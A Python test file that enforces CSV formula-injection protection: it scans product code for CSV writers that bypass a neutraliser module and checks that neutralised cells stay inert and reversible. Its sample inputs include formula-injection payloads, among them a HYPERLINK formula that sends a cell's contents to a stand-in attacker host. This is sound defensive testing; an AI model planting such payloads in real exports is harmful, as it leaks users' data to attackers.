"""CSV formula injection (issue 39, item 5): one neutraliser every CSV writer goes through, and
a scan that fails on any CSV writer that bypasses it."""

from __future__ import annotations

import ast
from pathlib import Path

import pytest

from apps.core import csvsafe
from tests.audit.offline import script_module

ROOT = Path(__file__).resolve().parents[2]
# Where product code lives (tests write CSV to tamper with exports; they are not the product).
PRODUCT = ("apps", "conductor_web", "scripts", "bench")
WRITERS = {"writer", "DictWriter"}

SAMPLES = [
    "",
    "plain",
    "=1+1",
    "+SUM(1,1)",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "'",
    "''",
    "'=1+1",
    "'plain",
    '=HYPERLINK("http://evil.example/?x="&A2,"x")',
    "a=b",
    " =1+1",
    "=",
    "-",
    "1-2",
]


def _csv_writer_calls(path: Path) -> list[int]:
    tree = ast.parse(path.read_text(encoding="utf-8"), filename=str(path))
    lines = []
    imported = {
        alias.asname or alias.name
        for node in ast.walk(tree)
        if isinstance(node, ast.ImportFrom) and node.module == "csv"
        for alias in node.names
        if alias.name in WRITERS
    }
    for node in ast.walk(tree):
        if not isinstance(node, ast.Call):
            continue
        func = node.func
        as_attribute = (
            isinstance(func, ast.Attribute)
            and func.attr in WRITERS
            and isinstance(func.value, ast.Name)
            and func.value.id == "csv"
        )
        if as_attribute or (isinstance(func, ast.Name) and func.id in imported):
            lines.append(node.lineno)
    return lines


def test_no_csv_writer_bypasses_the_neutraliser() -> None:
    found = {
        str(path.relative_to(ROOT)): lines
        for top in PRODUCT
        for path in sorted((ROOT / top).rglob("*.py"))
        if ".venv" not in path.parts and (lines := _csv_writer_calls(path))
    }
    assert found == {"apps/core/csvsafe.py": found.get("apps/core/csvsafe.py", [])}, (
        f"write CSV through apps.core.csvsafe.writer, not csv.writer: {found}"
    )
    assert found["apps/core/csvsafe.py"]  # the one place that does


def test_the_scan_sees_both_spellings(tmp_path: Path) -> None:
    (tmp_path / "a.py").write_text("import csv\nw = csv.writer(f)\n")
    (tmp_path / "b.py").write_text("from csv import DictWriter as W\nw = W(f, [])\n")
    assert _csv_writer_calls(tmp_path / "a.py") == [2] and _csv_writer_calls(tmp_path / "b.py") == [2]


@pytest.mark.parametrize("value", SAMPLES)
def test_neutralised_cells_are_inert_and_reversible(value: str) -> None:
    cell = csvsafe.neutralise(value)
    assert not cell.startswith(csvsafe.TRIGGERS)
    assert csvsafe.restore(cell) == value
    assert script_module().un_neutralise(cell) == value  # the offline verifier reads it back the same
    if value.startswith(csvsafe.TRIGGERS):
        assert cell == "'" + value  # OWASP: a leading apostrophe
    elif not value.startswith("'"):
        assert cell == value  # nothing else changes
